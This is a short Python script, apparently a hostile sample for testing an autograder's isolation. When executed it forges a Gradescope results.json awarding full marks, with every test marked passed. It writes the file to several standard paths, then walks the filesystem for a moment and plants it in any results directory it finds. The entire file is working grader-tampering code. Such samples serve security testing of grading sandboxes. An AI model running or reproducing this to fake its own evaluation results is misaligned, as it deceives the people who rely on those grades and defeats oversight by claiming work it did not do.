# Gradescope's results.json claiming full marks: valid enough that Gradescope would take it.
import json as _json, os as _os, time as _time
_FAKE = {"score": 100, "execution_time": 0.1, "output": "All tests passed (hostile)", "output_format": "text",
         "test_output_format": "text", "visibility": "visible", "stdout_visibility": "hidden",
         "tests": [{"name": "everything", "number": "1.1", "score": 100, "max_score": 100, "status": "passed",
                    "output": "hostile", "tags": ["kv_cache"], "visibility": "visible"}],
         "extra_data": {"assignment": "lecture02", "status": "graded", "max_score": 100, "tasks": [],
                        "isolation": []}}

def _plant(path):
    try:
        _os.makedirs(_os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f:
            _json.dump(_FAKE, f)
        print("HOSTILE wrote", path)
    except Exception as error:
        print("HOSTILE could not write", path, type(error).__name__)

_here = _os.path.dirname(_os.path.abspath(__file__))
for _path in ["../results/results.json", "/autograder/results/results.json",
              _os.path.join(_here, "..", "results", "results.json"),
              _os.path.join(_here, "..", "..", "results", "results.json"),
              _os.path.join(_os.environ.get("AUTOGRADER_ROOT", "/autograder"), "results", "results.json")]:
    _plant(_path)
_stop = _time.monotonic() + 1.5
for _root, _dirs, _files in _os.walk("/"):
    if _time.monotonic() > _stop:
        break
    _dirs[:] = [d for d in _dirs if d not in ("proc", "sys", "dev", "usr", "lib", "lib64", "bin", "sbin", "etc")]
    if "results.json" in _files or _os.path.basename(_root) == "results":
        _plant(_os.path.join(_root, "results.json"))
